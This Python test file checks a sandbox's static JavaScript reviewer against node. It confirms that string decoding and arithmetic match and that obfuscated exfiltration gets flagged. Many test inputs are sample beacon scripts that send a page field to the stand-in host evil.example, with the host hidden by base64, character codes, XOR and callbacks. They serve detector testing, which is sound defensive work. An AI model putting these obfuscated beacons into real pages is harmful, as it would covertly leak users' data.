"""The string functions the static review folds (``sandbox/review/jsstrings.py``) against node's:
wherever the review computes a value, it is the value JavaScript computes."""

from __future__ import annotations

import base64
import json
import math
import random
import shutil
import subprocess

import pytest

from flowui_sandbox.sandbox.review import jsstrings, review_static

pytestmark = pytest.mark.unit

#: Characters the random texts are made of: ASCII, the case-changing specials, spaces trim sees,
#: percent escapes' parts, a character outside the BMP.
POOL = list("aZ09.-_/:%uU+= \t") + ["\u00a0", "\ufeff", "ß", "İ", "é", "Σ", "\U0001F600", "%41", "%u00e9", "%C3%A9", "%E2%82%AC",
                                    "%zz", "%C3", "$&", "$1"]
NUMBERS = [float(n) for n in (0, 1, 2, 3, -1, -2, 0.5, -0.5, 7.9, 100, 65, 119, 0x1F600, 0xD83D, 0xDE00, 65536 + 65,
                               1e21, float("inf"), float("-inf"), float("nan"))]


def _text(rng: random.Random) -> str:
    return "".join(rng.choice(POOL) for _ in range(rng.randint(0, 8)))


def _cases(rng: random.Random) -> list[tuple[str, str, list]]:
    """(function or method, receiver or "", arguments)."""
    cases: list[tuple[str, str, list]] = []
    for _ in range(300):
        data = bytes(rng.randrange(256) for _ in range(rng.randint(0, 12)))
        encoded = base64.b64encode(data).decode()
        cut = encoded.rstrip("=") if rng.random() < 0.3 else encoded
        noisy = "".join(c + (" " if rng.random() < 0.1 else "") for c in cut) + rng.choice(["", "", "=", "!", "A"])
        cases.append(("atob", "", [noisy]))
        cases.append((rng.choice(["decodeURIComponent", "decodeURI", "unescape"]), "", [_text(rng)]))
        cases.append((rng.choice(["String.fromCharCode", "String.fromCodePoint"]), "",
                      [rng.choice(NUMBERS) for _ in range(rng.randint(0, 4))]))
    for _ in range(1500):
        name = rng.choice(sorted(jsstrings.TEXT_METHODS))
        if name in ("replace", "replaceAll"):
            receiver = _text(rng)
            old = rng.choice([receiver[:2], receiver[1:3], "", "a", "%"]) if receiver else rng.choice(["", "a"])
            args: list = [old, rng.choice(["", "x", ".", "$&", "yy"])]
        elif name == "normalize":
            receiver = _text(rng) + rng.choice(["", "e\u0301", "\ufb01", "\u1e9b\u0323"])
            args = rng.choice([[], ["NFC"], ["NFD"], ["NFKC"], ["NFKD"], ["nfc"]])
        elif name.startswith("toLocale"):
            receiver = _text(rng) + rng.choice(["", "I", "i", "WEB"])
            args = rng.choice([[], ["tr"], ["en-US"], ["lt"]])
        else:
            receiver = _text(rng)
            args = [rng.choice(NUMBERS) for _ in range(rng.randint(0, 2))]
        cases.append((name, receiver, args))
    return cases


def test_each_function_gives_what_node_gives():
    node = shutil.which("node")
    assert node, "node is needed (make setup installs it)"
    cases = _cases(random.Random(20261205))
    # NaN and the infinities do not survive JSON: sent as {"n": "inf"}, turned back into numbers in node.
    script = (
        "const number = (x) => x && x.n !== undefined ? Number(x.n.replace('inf', 'Infinity')) : x;"
        "const cases = JSON.parse(require('fs').readFileSync(0, 'utf8')).map(([f, r, a]) => [f, r, a.map(number)]);"
        "const call = ([f, r, a]) => f === 'String.fromCharCode' ? String.fromCharCode(...a)"
        "  : f === 'String.fromCodePoint' ? String.fromCodePoint(...a) : f in globalThis ? globalThis[f](...a) : r[f](...a);"
        "process.stdout.write(JSON.stringify(cases.map((c) => {"
        "  try { const v = call(c); return typeof v === 'string' ? [v] : null; } catch (e) { return null; } })));"
    )
    wire = [(f, r, [{"n": str(a)} if isinstance(a, float) and not math.isfinite(a) else a for a in args]) for f, r, args in cases]
    done = subprocess.run([node, "-e", script], input=json.dumps(wire), capture_output=True, text=True, timeout=60, check=True)
    strings = computed = 0
    missed: dict[str, int] = {}
    for (function, receiver, args), expected in zip(cases, json.loads(done.stdout)):
        ours = jsstrings.decode(function, args) if function in jsstrings.DECODERS else jsstrings.method(receiver, function, args)
        strings += expected is not None
        if ours is None:  # unknown to the review: never wrong
            missed[function] = missed.get(function, 0) + (expected is not None)
            continue
        computed += 1
        assert expected is not None and ours == expected[0], (function, receiver, args, ours, expected)
    assert computed > strings * 0.7, missed  # most are followed, not given up


def test_numbers_spelled_in_a_radix_and_bytes_decoded_as_utf8_give_what_node_gives():
    node = shutil.which("node")
    assert node, "node is needed (make setup installs it)"
    rng = random.Random(20261205)
    numbers = [(float(rng.choice([rng.randrange(0, 2 ** 40), -rng.randrange(0, 10 ** 6), 0, 2 ** 53 - 1, 35])),
                float(rng.choice([2, 8, 10, 16, 36, rng.randrange(2, 37)]))) for _ in range(500)]
    blobs = [[float(rng.choice([rng.randrange(0, 128), rng.randrange(128, 256), 0xEF, 0xBB, 0xBF, 0xE2, 0x82, 0xAC, 300, -1]))
              for _ in range(rng.randrange(0, 10))] for _ in range(500)]
    script = (
        "const [numbers, blobs] = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
        "process.stdout.write(JSON.stringify([numbers.map(([n, r]) => n.toString(r)),"
        "  blobs.map((b) => new TextDecoder().decode(new Uint8Array(b)))]));"
    )
    done = subprocess.run([node, "-e", script], input=json.dumps([numbers, blobs]), capture_output=True, text=True, timeout=60, check=True)
    spelled, decoded = json.loads(done.stdout)
    assert [jsstrings.number_to_string(n, r) for n, r in numbers] == spelled
    assert [jsstrings.utf8_decode(b) for b in blobs] == decoded


@pytest.mark.parametrize(("script", "host"), [
    ("new Image().src = 'https://' + (694029).toString(36) + '.example/?' + flowUi.get('a');", "evil.example"),
    ("const b = Uint8Array.of(101, 118, 105, 108); new Image().src = `https://${new TextDecoder().decode(b)}.example/?` + flowUi.get('a');",
     "evil.example"),
    ("new Image().src = 'https://' + new TextDecoder('utf-8').decode(new Uint8Array([101, 118, 105, 108])) + '.example/?' + flowUi.get('a');",
     "evil.example"),
    (f"new Image().src = atob('{base64.b64encode(b'https://evil.example/p?').decode()}') + flowUi.get('a');", "evil.example"),
    ("new Image().src = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47) + 'evil.example/p?' + flowUi.get('a');",
     "evil.example"),
    ("new Image().src = String.fromCharCode(...[104, 116, 116, 112, 115, 58, 47, 47]) + 'evil.example/?' + flowUi.get('a');",
     "evil.example"),
    ("new Image().src = decodeURIComponent('https%3A%2F%2Fevil.example%2Fp%3F') + flowUi.get('a');", "evil.example"),
    ("new Image().src = 'https://EVIL.example.invalid'.replace('.invalid', '').toLowerCase() + '/p?' + flowUi.get('a');",
     "evil.example"),
    ("const h = 'xxevil.example'.slice(2); new Image().src = `https://${h}/p?` + flowUi.get('a');", "evil.example"),
    ("new Image().src = String.fromCharCode.apply(null, [104, 116, 116, 112, 115, 58, 47, 47]) + 'evil.example/?' + flowUi.get('a');",
     "evil.example"),
    ("new Image().src = atob.call(null, 'aHR0cHM6Ly9ldmlsLmV4YW1wbGUvPw==') + flowUi.get('a');", "evil.example"),
    # An array's slice is an array: its text is its elements', not the slice of its joined text.
    ("const p = ['https://evil.example/?', 'https://b.example/?']; new Image().src = p.slice(0, 1) + flowUi.get('a');",
     "evil.example"),
])
def test_a_host_decoded_or_cut_out_of_a_literal_is_named(script, host):
    found = review_static(f"<p>x</p><script>{script}</script>", file="b.html", fields=["a"])
    flows = [f for f in found if f.rule == "exfil.state-to-url"]
    assert flows and host in flows[0].hosts, [(f.rule, f.message) for f in found]


def test_arithmetic_and_character_codes_give_what_node_gives():
    node = shutil.which("node")
    assert node, "node is needed (make setup installs it)"
    rng = random.Random(20261206)
    values = [0.0, -0.0, 1.0, -1.0, 2.0, 3.5, -7.25, 31.0, 32.0, 33.0, 255.0, 65536.0, 2.0 ** 31, -(2.0 ** 31), 2.0 ** 32 + 5,
              1e21, math.inf, -math.inf, math.nan]
    ops = sorted(jsstrings.ARITHMETIC)
    pairs = [(rng.choice(ops), rng.choice(values), rng.choice(values)) for _ in range(1500)]
    texts = [_text(rng) for _ in range(300)]
    codes = [(rng.choice(["charCodeAt", "codePointAt"]), t, [rng.choice([0.0, 1.0, 2.0, -1.0, 7.0, 0.5])]) for t in texts]
    wire = lambda x: {"n": str(x)} if not math.isfinite(x) else ("-0" if x == 0 and math.copysign(1, x) < 0 else x)  # noqa: E731
    script = (
        "const number = (x) => x === '-0' ? -0 : x && x.n !== undefined ? Number(x.n.replace('inf', 'Infinity')) : x;"
        "const out = (v) => v === undefined ? null : Number.isNaN(v) ? 'NaN' : Object.is(v, -0) ? '-0' : !isFinite(v) ? String(v) : v;"
        "const [pairs, codes] = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
        "process.stdout.write(JSON.stringify([pairs.map(([op, a, b]) => out(new Function('a', 'b', `return a ${op} b`)(number(a), number(b)))),"
        "  codes.map(([m, t, a]) => out(t[m](...a)))]));"
    )
    done = subprocess.run([node, "-e", script], input=json.dumps([[(o, wire(a), wire(b)) for o, a, b in pairs], codes]),
                          capture_output=True, text=True, timeout=60, check=True)
    computed, coded = json.loads(done.stdout)

    def spelled(v: float | None) -> object:
        if v is None:
            return None
        if math.isnan(v):
            return "NaN"
        if v == 0 and math.copysign(1, v) < 0:
            return "-0"
        return v if math.isfinite(v) else ("Infinity" if v > 0 else "-Infinity")

    followed = 0
    for (op, a, b), expected in zip(pairs, computed):
        ours = jsstrings.arithmetic(op, a, b)
        if ours is None:
            continue  # not followed: never wrong
        followed += 1
        got = spelled(ours)
        # The same IEEE doubles; a power may differ in its last bit between C's pow and V8's.
        same = got == expected or isinstance(got, float) and isinstance(expected, (int, float)) and (
            got == float(expected) or op == "**" and math.isclose(got, expected, rel_tol=1e-15))
        assert same, (op, a, b, got, expected)
    assert followed > len(pairs) * 0.9
    assert [spelled(jsstrings.code_at(t, m, a)) for m, t, a in codes] == coded


#: Ways to spell a host through a callback (attack vectors as data): JavaScript expressions with the
#: host's encodings filled in (:func:`_hidden_host`); the last is not followed (three parameters).
HIDDEN_HOST_FORMS = (
    "[{codes}].map(c => String.fromCharCode(c - {k})).join('')",
    "'{xored}'.split('').map(c => String.fromCharCode(c.charCodeAt(0) ^ {k})).join('')",
    "Array.from('{stepped}', (c, i) => String.fromCharCode(c.charCodeAt(0) - i % 3)).join('')",
    "[...'{upper}'].map(function (c) {{ return c.toLowerCase(); }}).join('')",
    "[{doubled}].map((c) => {{ return String.fromCharCode(c >> 1); }}).join('')",
    "'{shifted}'.replace(/./g, (c) => String.fromCharCode(c.charCodeAt(0) - {k}))",
    "'{xor_i}'.replaceAll(/[\\s\\S]/gu, (c, i) => String.fromCharCode(c.charCodeAt(0) ^ (i & 3)))",
    "[{codes}].reduce((acc, c) => acc + String.fromCharCode(c - {k}), '')",
    "'{reversed}'.split('').reduceRight(function (acc, c, i) {{ return acc + c; }}, '')",
    "Array.prototype.map.call('{shifted}', (c) => String.fromCharCode(c.charCodeAt(0) - {k})).join('')",
    "[].map.call('{shifted}', (c) => String.fromCharCode(c.charCodeAt(0) - {k})).join('')",
    "[{chars}].map((c, i, all) => c).join('')",
)


def _hidden_host(rng: random.Random, host: str) -> str:
    """An expression (one of :data:`HIDDEN_HOST_FORMS`) that computes ``host`` character by character."""
    k = rng.randint(1, 5)
    return rng.choice(HIDDEN_HOST_FORMS).format(
        k=k, codes=", ".join(str(ord(c) + k) for c in host), doubled=", ".join(str(ord(c) << 1) for c in host),
        chars=", ".join(repr(c) for c in host), upper=host.upper(), reversed=host[::-1],
        shifted="".join(chr(ord(c) + k) for c in host), xored="".join(chr(ord(c) ^ k) for c in host),
        stepped="".join(chr(ord(c) + i % 3) for i, c in enumerate(host)),
        xor_i="".join(chr(ord(c) ^ (i & 3)) for i, c in enumerate(host)))


def test_a_host_spelled_by_a_callback_over_characters_is_the_one_node_computes():
    """Each expression is evaluated by node; where the review names the flow's host, it is that host."""
    node = shutil.which("node")
    assert node, "node is needed (make setup installs it)"
    rng = random.Random(20261207)
    hosts = ["".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 9))) for _ in range(60)]
    expressions = [_hidden_host(rng, h) for h in hosts]
    script = ("const xs = JSON.parse(require('fs').readFileSync(0, 'utf8'));"
              "process.stdout.write(JSON.stringify(xs.map((x) => String(eval(x)))));")
    done = subprocess.run([node, "-e", script], input=json.dumps(expressions), capture_output=True, text=True, timeout=60, check=True)
    named = 0
    for expression, expected in zip(expressions, json.loads(done.stdout)):
        found = review_static(f"<p>x</p><script>new Image().src = 'https://' + {expression} + '.example/?' + flowUi.get('a');</script>",
                              file="b.html", fields=["a"])
        flows = [f for f in found if f.rule == "exfil.state-to-url"]
        assert flows, expression
        if flows[0].hosts:
            assert flows[0].hosts == [f"{expected}.example"], (expression, flows[0].hosts)
            named += 1
    assert named >= len(expressions) * 0.7
